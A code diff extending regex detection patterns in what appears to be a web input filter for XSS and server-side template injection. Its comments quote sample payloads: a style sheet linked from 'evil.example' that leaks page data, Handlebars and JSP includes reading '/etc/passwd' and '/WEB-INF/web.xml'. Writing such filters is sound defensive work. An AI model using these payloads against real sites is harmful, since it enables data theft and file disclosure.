@@ -229,6 +229,10 @@ const XSS = [
   /<(?:iframe(?![ \t]{0,4}>)|frame(?![ \t]{0,4}>)(?!(?:\s{1,4}x:[a-z]{1,20}\s{0,4}=\s{0,4}"[^"<>]{0,100}"){1,4}\s{0,4}\/?>)|frameset|embed(?!(?:\s{1,4}(?:embedtype|format|id|alt|class)\s{0,4}=\s{0,4}"[^"<>]{0,200}"){1,8}\s{0,4}\/?>)|applet|svg|math|isindex|layer|ilayer|bgsound|xml(?![ \t]{0,4}>\s{0,40}<[owv]:)|xss|portal|import(?=[^<>]{0,200}?\b(?:namespace|implementation)\s*=)|handler|listener|event-source)\b(?![-.])|<object\b[^>]{0,200}?\btype\s*=\s*['"]?(?:text\/x-scriptlet|text\/html|application\/x-shockwave)|<base\b[^>]{0,200}?\bhref\s*=|<(?:[a-z][\w-]{0,20}:)?(?:set|animate)\b[^>]{0,200}?\battributename\s*=\s*['"`]?(?:href|xlink:href|innerhtml|on[a-z]+)|<link\b[^>]{0,200}?\brel\s*=\s*['"]?[^>]{0,40}?\bimport\b|<style\b[^>]{0,100}?\btype\s*=\s*['"]?text\/(?:javascript|ecmascript)/,
   // (thirty-eighth round: not a refresh to a path on the same site, SITE_REFRESH)
   new RegExp(String.raw`<meta\b(?!${SITE_REFRESH})[^>]{0,300}?(?:url\s*=\s*['"]?\s*(?:javascript|vbscript|data):|http-equiv\s*=\s*['"]?(?:refresh|link|set-cookie)\b)`),
+  // (fifty-sixth round) a style sheet linked from another origin (`"><link rel="stylesheet" href="http://evil.example/x.css">`): its
+  // selectors read the page's attributes out through their background URLs, as an imported one's do (`<style>@import url(//evil/x.css)`);
+  // a scheme's or a protocol-relative URL, in either order of the attributes; not Google Fonts' style sheet (as FONT_IMPORT)
+  /<link\b(?=[^<>]{0,200}?\brel\s*=\s*['"]?\s*(?:[a-z-]{1,20}\s{1,4}){0,3}stylesheet\b)(?![^<>]{0,200}?\bhref\s*=\s*['"]?\s*(?:https?:)?\/\/fonts\.googleapis\.com\/css2?\?)[^<>]{0,200}?\bhref\s*=\s*['"]?\s*(?:[a-z][\w+.-]{0,20}:|[/\\]{2})/,
   // (twenty-fifth round: a scheme's name then a dot is a host's, `href="http://livescript.net"`, `https://javascript.info`; forty-second
   // round: nor one a letter or a digit goes on from, a longer name's start, `values={constants.javaScriptSpecLanguages}` in MDX)
   /<[a-z][a-z0-9:-]{0,20}\b[^<>]{0,400}?\b(?:src|href|dynsrc|lowsrc|background|action|formaction|data|code|codebase|xlink:href|poster|values|to|from|by|folder|srcdoc)\s*=\s*(?:['"`]\s*)?[^'"`>\s]{0,20}?(?:(?:javascript|vbscript|livescript)(?!\.[a-z]|[a-z0-9_])|data\s*:\s*text\/html|&\{)|<[a-z][a-z0-9:-]{0,20}\b[^<>]{0,400}?=\s*['"]?&\{|<(?:link|iframe|object|embed|script|frame)\b[^>]{0,300}?\b(?:href|src|data)\s*=\s*['"]?\s*data\s*:/,
@@ -1004,6 +1008,10 @@ const JSP_OWN_SETTINGS = String.raw`page(?:[ \t]{1,4}(?:(?:language|session|isel
 /** The pattern with `JSP_OWN_SETTINGS` where its source names it. */
 const withJspSettings = (re: RegExp): RegExp => new RegExp(re.source.replace('JSP_OWN_SETTINGS', JSP_OWN_SETTINGS), re.flags)
 const SSTI = [
+  // (fifty-sixth round) JSP's XML syntax for what `<% %>` and `<%@ include %>` do — a page included or forwarded to, a scriptlet, an
+  // expression, a declaration, a bean of any class (`<jsp:include page="/WEB-INF/web.xml"/>`, `<jsp:expression>7*7</jsp:expression>`) —
+  // and JSTL's import of any URL or file (`<c:import url="/WEB-INF/web.xml"/>`)
+  /<jsp:(?:include|forward|directive\s{0,4}\.\s{0,4}include|scriptlet|expression|declaration|usebean)\b|<c:import\b[^<>]{0,200}?\burl\s*=/,
   // (forty-eighth round) Handlebars' partial named by a climb of two levels or more (`{{>../../etc/passwd}}`; not `{{> ../partials/header}}`), and Mako's or Cheetah's Python introspection
   // (`${dir()}`, `${locals()}`): the template reads a file or lists its own scope
   /\{\{\s{0,4}>\s{0,4}['"]?(?:\.{1,2}[/\\]){0,4}\.\.[/\\]\.\.[/\\]|\$\{\s{0,4}(?:dir|locals|globals|vars)\s{0,4}\(\s{0,4}\)\s{0,4}\}/,
@@ -2802,7 +2810,7 @@ const GATE = {
   // a closing parenthesis (or "*") then an opening one, a filter operator between parentheses, "))" then NUL
   ldapi: /^\s*\(\s*[&|]\s*\)\s*$|\*\)\)$|^\s{0,10}\*\s{0,4}\(?\s{0,4}[|&!]\s{0,4}\(|\)\s*[|&!]\s*\(|\?(?:base|one|sub|subtree|children)\?|[)*]\s*(?:\)\s*){0,2}\(|\(\s*[|&]\s*\(|\)\s*\)\s*\0|\*\s*\)\s*\0|^\s*\(\s*[a-z][\w-]{1,40}\s*[~<>]?=|^\s{0,10}\(?\s{0,10}[&|!]\s*\(/,
   // a template's delimiters
-  ssti: /\{\{|\$\{|#\{|\*\{|@\(|@\{|\{%|<%|<#|\[#|\{=|\[=|#set\s*\(|#foreach|\?new\s*\(|\{(?:php|literal|\$smarty|system)/,
+  ssti: /\{\{|\$\{|#\{|\*\{|@\(|@\{|\{%|<%|<#|<jsp:|<c:import\b|\[#|\{=|\[=|#set\s*\(|#foreach|\?new\s*\(|\{(?:php|literal|\$smarty|system)/,
 }
 
 /**
